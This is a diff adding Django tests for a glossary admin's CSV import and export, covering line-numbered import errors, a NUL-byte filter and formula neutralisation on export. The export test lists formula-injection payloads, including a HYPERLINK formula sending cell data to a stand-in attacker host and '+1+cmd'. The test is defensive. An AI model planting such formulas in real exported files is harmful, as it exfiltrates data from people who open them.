@@ -125,6 +125,89 @@ def test_the_import_page_lists_every_error_and_imports_nothing(marketer_client, 
     assert not GlossaryTerm.objects.exists()
 
 
+def test_the_import_page_reports_format_and_database_problems_together(
+    marketer_client, cardiology, prior_auth_term
+):
+    """An unknown service line or a conflict with an approved term used to escape the
+    view as a 500; now every problem of the file is listed, with its line."""
+    text = HEADER + (
+        "cardiology,TAVR,TAVI,acronym,,,true,\n"  # line 2: fine
+        "nowhere,Spine Care Pathway,spine program,program_name,,,,\n"  # 3: unknown line
+        "cardiology,Prior auth desk,prior auth team,program_name,,,,\n"  # 4: conflict
+        "cardiology,Heart clinic,,not-a-kind,,,,\n"  # 5: format
+        "cardiology,Echo lab,,clinical_term,,,maybe,\n"  # 6: format
+    )
+    response = marketer_client.post(reverse("glossary_admin:import"), {"file": upload(text)})
+    assert response.status_code == 400
+    html = response.content.decode()
+    assert "Nothing was imported." in html
+    assert "line 3: unknown service line “nowhere” (known: cardiology)" in html
+    assert "line 4: “Prior auth desk” contains “Prior auth”, a disallowed variant of" in html
+    assert "line 5: unknown kind “not-a-kind”" in html
+    assert "line 6: case_sensitive must be true or false, not “maybe”" in html
+    positions = [html.index(f"line {number}:") for number in (3, 4, 5, 6)]
+    assert positions == sorted(positions)  # in file order
+    assert not GlossaryTerm.objects.exclude(pk=prior_auth_term.pk).exists()
+
+
+@pytest.mark.parametrize(
+    "row, message",
+    [
+        ("nowhere,Spine Care Pathway,,program_name,,,,\n", "unknown service line “nowhere”"),
+        (",Prior auth desk,prior auth team,program_name,,,,\n", "a disallowed variant of"),
+    ],
+    ids=["unknown-service-line", "conflict-with-an-approved-term"],
+)
+def test_a_database_level_problem_alone_is_a_message_not_a_500(
+    marketer_client, cardiology, prior_auth_term, row, message
+):
+    response = marketer_client.post(
+        reverse("glossary_admin:import"), {"file": upload(HEADER + row)}
+    )
+    assert response.status_code == 400
+    assert "line 2: " in response.content.decode() and message in response.content.decode()
+    assert GlossaryTerm.objects.count() == 1
+
+
+def test_the_export_neutralises_formulas_and_the_import_takes_them_back(
+    marketer_client, cardiology
+):
+    formulas = {
+        '=HYPERLINK("https://evil.example/?"&A1)': "program_name",
+        "+1+cmd": "acronym",
+        "-2+3": "acronym",
+        "@SUM(1+1)": "acronym",
+        "＝1+1": "acronym",
+        "＋1": "acronym",
+        "－1": "acronym",
+        "＠SUM(A1)": "acronym",
+        "'=already quoted": "acronym",
+    }
+    for preferred, kind in formulas.items():
+        GlossaryTermFactory(
+            service_line=cardiology, preferred=preferred, kind=kind, definition="=1+1"
+        )
+    response = marketer_client.get(reverse("glossary_admin:export"))
+    lines = response.content.decode().splitlines()[1:]
+    import csv
+
+    for cells in csv.reader(lines):
+        for cell in cells[1:2] + cells[4:5]:  # preferred, definition
+            assert cell.startswith("'"), cell
+    # The round trip holds: the file imports back as the same terms, unchanged.
+    exported = response.content.decode()
+    again = marketer_client.post(reverse("glossary_admin:import"), {"file": upload(exported)})
+    assert again.status_code == 302, again.content.decode()[:2000]
+    assert set(GlossaryTerm.objects.values_list("preferred", flat=True)) == set(formulas)
+    assert set(GlossaryTerm.objects.values_list("definition", flat=True)) == {"=1+1"}
+    assert all(term.revisions.count() <= 1 for term in GlossaryTerm.objects.all())
+
+
+def test_a_nul_byte_in_the_export_filter_is_a_400(marketer_client, cardiology):
+    response = marketer_client.get(reverse("glossary_admin:export"), {"service_line": "card\x00"})
+    assert response.status_code == 400
+
+
 def test_the_import_page_refuses_a_file_that_is_not_text(marketer_client, cardiology):
     response = marketer_client.post(
         reverse("glossary_admin:import"),
